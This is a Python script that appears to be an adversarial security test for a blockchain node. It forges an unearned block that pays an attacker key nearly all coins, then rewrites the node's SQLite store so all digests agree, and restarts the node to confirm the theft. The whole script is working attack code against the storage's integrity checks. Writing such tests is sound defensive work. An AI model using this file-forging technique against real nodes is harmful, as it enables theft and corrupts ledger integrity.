"""The stopped node's file, written anew: the chain as it is, and on it a block that nobody earned, which
gives the attacker nearly all coins there will ever be. All digests in the file agree. Only what the node
knows from elsewhere, its anchor, does not bind that block, so that it must be judged like a stranger's."""

import base64
import hashlib
import sqlite3
import struct

import attack_client

COINS = 2_000_000_000
PAYMENT_BYTES, HEADER_AND_ATTEMPT_BYTES = 133, 249
FIELD = 2**256 - 2**32 - 977

attack = attack_client.begin(
    name="block-above-the-anchor", author="GlyphLab", system="chain", claim="STO",
    severity="critical", about="Writes a file whose last block nobody earned.",
    work_share="1/10", keys=["thief"], surfaces=["store"], published="not_exercised",
    references=["STO-12"])
if attack.profile == "published":
    # Its blocks and accounts have another form; published rules have no anchor to pass.
    attack.done()
    raise SystemExit

# The chain, and the forged block.
blocks = [base64.b64decode(attack.block(height=height).bytes)
          for height in range(attack.head().height + 1)]
attack.forge(as_="forged", by="thief",
             hardened={"set": {"proof": "00" * 32}, "seal": ["root", "stamp"]})
blocks += attack.artefact("forged")


def digest(data):
    return hashlib.sha256(data).digest()


def number(value):
    return struct.pack(">Q", value)


def address(key):
    """The address of a key of 33 bytes."""
    x = int.from_bytes(key[1:], "big")
    y = pow((x**3 + 7) % FIELD, (FIELD + 1) // 4, FIELD)
    y = y if y % 2 == key[0] % 2 else FIELD - y
    return digest(key[1:] + y.to_bytes(32, "big"))[:20]


def row(account):
    return account[0] + number(account[1]) + number(account[2])


class Accounts:
    """Accounts by place, each an address, a balance and a nonce; the undo of the block under way;
    and the sum of all rows' digests."""

    def __init__(self):
        self.all, self.places, self.sum = [], {}, 0
        self.begin()

    def begin(self):
        self.count, self.before = len(self.all), {}

    def change(self, owner, amount, nonces=0):
        if owner not in self.places:
            self.places[owner] = len(self.all)
            self.all.append([owner, 0, 0])
        place = self.places[owner]
        if place < self.count:
            self.before.setdefault(place, row(self.all[place]))
        self.all[place][1] += amount
        self.all[place][2] += nonces

    def end(self):
        """The undo's bytes, and the sum's."""
        def part(place, bytes_):
            return int.from_bytes(digest(b"glyphlab/row/1" + number(place) + bytes_), "little")

        for place, old in self.before.items():
            self.sum += part(place, row(self.all[place])) - part(place, old)
        for place in range(self.count, len(self.all)):
            self.sum += part(place, row(self.all[place]))
        self.sum %= 2**256
        undo = number(self.count) + number(len(self.before)) + b"".join(
            number(place) + struct.pack(">I", len(old)) + old
            for place, old in sorted(self.before.items()))
        return undo, b"".join(number(self.sum >> 64 * word & 2**64 - 1) for word in range(4))


accounts, steps, rows = Accounts(), [], []
entry, state = bytes(32), bytes(32)
for height, block in enumerate(blocks):
    accounts.begin()
    if height > 0:
        accounts.change(block[117:137], COINS if height == len(blocks) - 1 else 700)
        for index in range(struct.unpack(">I", block[113:117])[0]):
            start = HEADER_AND_ATTEMPT_BYTES + PAYMENT_BYTES * index
            amount = struct.unpack(">Q", block[start + 20:start + 28])[0]
            accounts.change(address(block[start + 36:start + 69]), -amount, nonces=1)
            accounts.change(block[start:start + 20], amount)
    undo, total = accounts.end()
    entry = digest(b"glyphlab/entry/1" + entry + block)
    state = digest(b"glyphlab/state/1" + state + entry + digest(undo) + total)
    steps.append((height, height, undo, state))
    rows.append((height, height - 1 if height else None, entry, block))
attack.note("the state is right:", steps[-2][3].hex() == attack.advance(seconds=1).state)

database = sqlite3.connect(":memory:", isolation_level=None)
for statement in (
    "PRAGMA page_size = 4096",
    "CREATE TABLE tie (place INTEGER PRIMARY KEY, mark BLOB NOT NULL, previous BLOB NOT NULL) STRICT",
    "CREATE TABLE account (place INTEGER PRIMARY KEY, row BLOB NOT NULL) STRICT",
    "CREATE TABLE block (arrival INTEGER PRIMARY KEY, parent INTEGER, id BLOB NOT NULL, "
    "bytes BLOB NOT NULL) STRICT",
    "CREATE TABLE pin (place INTEGER PRIMARY KEY, text TEXT NOT NULL) STRICT",
    "CREATE TABLE step (height INTEGER PRIMARY KEY, block INTEGER NOT NULL, undo BLOB NOT NULL, "
    "digest BLOB NOT NULL) STRICT",
    "CREATE TABLE waiting (arrival INTEGER PRIMARY KEY, bytes BLOB NOT NULL) STRICT",
    f"PRAGMA application_id = {0x676C7963}", "PRAGMA user_version = 2",
):
    database.execute(statement)
database.execute("INSERT INTO tie VALUES (0, zeroblob(16), zeroblob(16))")
pin = f"hardened, weights {attack.challenge['weights_hash']}"
database.execute("INSERT INTO pin VALUES (0, ?)", (pin,))
database.executemany("INSERT INTO block VALUES (?, ?, ?, ?)", rows)
database.executemany("INSERT INTO step VALUES (?, ?, ?, ?)", steps)
database.executemany("INSERT INTO account VALUES (?, ?)",
                     [(place, row(account)) for place, account in enumerate(accounts.all)])
file = bytearray(database.serialize())
# The version of the format that a database with a log has.
file[18] = file[19] = 2

attack.damage(kind="splice", splice={"kind": "append", "hex": "00" * len(file)})
attack.damage(kind="splice", splice={"kind": "write", "at": 0, "hex": file.hex()})
attack.restart()
attack.note("the thief has", attack.account(of="thief").balance)
attack.done()
